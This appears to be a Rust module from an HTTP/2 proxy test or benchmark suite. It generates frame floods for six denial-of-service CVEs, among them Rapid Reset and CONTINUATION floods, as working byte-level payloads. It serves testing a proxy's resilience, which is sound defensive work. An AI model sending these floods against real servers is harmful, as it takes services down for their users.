//! Floods of HTTP/2 frames: what makes a proxy work for nothing. Benches pour them too.

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, field, frame, head,
};

/// What a flood consists of.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// CVE-2019-9512.
    Ping,
    /// CVE-2019-9515.
    Settings,
    /// CVE-2019-9518.
    EmptyData,
    /// CVE-2019-9517.
    WindowUpdate,
    /// Requests that are taken back at once, CVE-2023-44487.
    RapidReset,
    /// A head without an end, CVE-2024-27316.
    Continuation,
}

/// Why a request is taken back.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

impl Flood {
    /// All kinds.
    pub const ALL: [Self; 6] = [
        Self::Ping,
        Self::Settings,
        Self::EmptyData,
        Self::WindowUpdate,
        Self::RapidReset,
        Self::Continuation,
    ];

    /// What comes before it, after the preface.
    pub fn beginning(self) -> Vec<u8> {
        let mut bytes = frame(SETTINGS, 0, 0, &[]);
        match self {
            Self::EmptyData => bytes.extend(frame(HEADERS, END_HEADERS, 1, &head("POST"))),
            Self::Continuation => bytes.extend(frame(HEADERS, END_STREAM, 1, &head("GET"))),
            _ => {}
        }
        bytes
    }

    /// So many frames, the first of which comes after `sent` others.
    pub fn burst(self, sent: u32, count: u32) -> Vec<u8> {
        match self {
            Self::Ping => repeated(&frame(PING, 0, 0, &[0; 8]), count),
            Self::Settings => repeated(&frame(SETTINGS, 0, 0, &[]), count),
            Self::EmptyData => repeated(&frame(DATA, 0, 1, &[]), count),
            Self::WindowUpdate => repeated(&frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]), count),
            Self::Continuation => repeated(&frame(CONTINUATION, 0, 1, &field("x-a", "b")), count),
            Self::RapidReset => (sent..sent + count).flat_map(taken_back).collect(),
        }
    }
}

/// A request, and that it is not wanted any more. Clients' streams have odd numbers.
fn taken_back(number: u32) -> Vec<u8> {
    let stream = 2 * number + 1;
    let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &head("GET"));
    [request, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
}

fn repeated(frame: &[u8], count: u32) -> Vec<u8> {
    (0..count).flat_map(|_| frame.iter().copied()).collect()
}
